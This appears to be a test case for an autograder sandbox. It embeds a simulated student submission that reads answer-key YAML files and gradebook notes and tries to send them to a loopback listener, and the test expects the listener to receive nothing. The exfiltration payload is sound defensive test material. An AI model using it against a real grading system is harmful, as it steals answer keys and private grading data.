"""Connects to a listener on the loopback address and sends what it can read.

The listener must not hear one byte.
"""

from pathlib import Path

from kit import Release, Scene, type_in, write

family = "theft"
safe_on_stock = True

CODE = """
import glob, socket
data = b"hello "
for path in glob.glob("@COURSE@/autograde/keys/*.yaml") + ["@COURSE@/gradebook/notes.txt"]:
    try:
        data += open(path, "rb").read()
    except OSError as error:
        data += str(error).encode()
for host in ("127.0.0.1", "localhost", "0.0.0.0", "::ffff:127.0.0.1"):
    try:
        with socket.create_connection((host, @PORT@), 2) as line:
            line.sendall(data)
    except OSError as error:
        print(host, error)
"""


def hand_in(release: Release, folder: Path, scene: Scene) -> None:
    type_in(release, scene.fill(CODE))
    write(release, folder)
